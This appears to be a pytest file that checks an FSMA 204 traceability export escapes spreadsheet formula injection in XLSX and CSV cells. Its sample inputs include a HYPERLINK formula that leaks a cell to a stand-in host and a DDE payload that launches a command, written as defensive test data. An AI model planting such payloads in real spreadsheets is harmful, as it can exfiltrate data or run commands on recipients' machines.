"""Formula injection (issue 9, item 4): text a member typed (a lot code, a KDE) must reach the regulator's
FSMA 204 spreadsheet as text, never as a live formula. XLSX cells keep the exact text as a string cell with a
quote prefix; CSV cells that a spreadsheet would evaluate get a leading single quote (OWASP). Numbers stay
as they are."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from supply_chain.services import fsma

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2)'
DANGEROUS = ["=1+1", HYPERLINK, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def _table(values: dict[str, str]) -> list[dict[str, str]]:
    return [{"cte": "Harvesting", "date": "2025-05-01", "unit": "kg"} | values]


def _xlsx_row(data: bytes) -> dict[str, openpyxl.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    headers = [c.value for c in sheet[1]]
    return {key: sheet.cell(row=2, column=headers.index(header) + 1) for key, header in fsma.COLUMNS}


def _csv_row(data: bytes) -> dict[str, str]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    return {key: rows[1][i] for i, (key, _) in enumerate(fsma.COLUMNS)}


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_text_in_xlsx_is_a_string_cell_with_the_exact_text(text: str) -> None:
    row = _xlsx_row(fsma.to_xlsx(_table({"traceability_lot_code": text, "other_kdes": text})))
    for key in ("traceability_lot_code", "other_kdes"):
        cell = row[key]
        assert cell.data_type == "s", f"{text!r} became a {cell.data_type} cell"
        # exact, carriage returns too: with lxml installed (a dependency) openpyxl writes them as &#13;
        assert cell.value == text
        assert cell.quotePrefix


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_text_in_csv_is_prefixed_with_a_quote(text: str) -> None:
    row = _csv_row(fsma.to_csv(_table({"traceability_lot_code": text, "commodity": text})))
    assert row["traceability_lot_code"] == "'" + text
    assert row["commodity"] == "'" + text


@pytest.mark.parametrize("number", ["-5", "-12.5", "+3", "100", "0.25"])
def test_numbers_stay_numbers(number: str) -> None:
    """A negative quantity (or temperature) is a number, not a formula: nothing is prefixed."""
    csv_row = _csv_row(fsma.to_csv(_table({"quantity": number})))
    assert csv_row["quantity"] == number
    cell = _xlsx_row(fsma.to_xlsx(_table({"quantity": number})))["quantity"]
    assert cell.value == number and not cell.quotePrefix


def test_ordinary_text_is_unchanged() -> None:
    text = "romaine lettuce, 2x 10 kg (A-1)"
    assert _csv_row(fsma.to_csv(_table({"commodity": text})))["commodity"] == text
    cell = _xlsx_row(fsma.to_xlsx(_table({"commodity": text})))["commodity"]
    assert cell.value == text and not cell.quotePrefix
